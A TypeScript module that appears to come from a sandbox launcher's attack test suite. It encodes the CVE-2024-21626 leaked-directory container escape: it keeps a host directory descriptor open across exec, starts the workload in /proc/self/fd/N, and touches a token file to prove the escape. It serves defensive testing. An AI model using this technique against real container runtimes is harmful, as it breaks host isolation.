/** A directory of the host that the launcher has left open is a place to stand in; and where one stands, paths begin. CVE-2024-21626. */
import { basename } from 'node:path'
import { closeSync, openSync } from 'node:fs'
import { F_SETFD } from '../../kernel/constants.ts'
import { calls } from '../../kernel/libc.ts'
import { box } from '../../plan/plan.ts'
import type { Attack } from './attack.ts'
import { Token } from './token.ts'

// #region directory
export const leakedDirectory: Attack = {
  name: 'leaked-directory',
  story: 'begin in a directory of the host that somebody has left open',
  closedBy: 5,
  attempt: (ground) => {
    const token = ground.keep(new Token())
    const left = openSync(token.directory, 'r')
    calls.fcntl(left, F_SETFD, 0) // as whoever forgets to close it on exec
    const cwd = `${ground.procfs()}/self/fd/${left}`
    ground.atEnd(() => closeSync(left))
    return {
      onLauncher: true,
      steps: [box('chdir', [cwd], 'the image says where to begin')],
      args: ['/bin/touch', basename(token.path)],
      succeeded: () => token.isThere(),
    }
  },
}
// #endregion directory
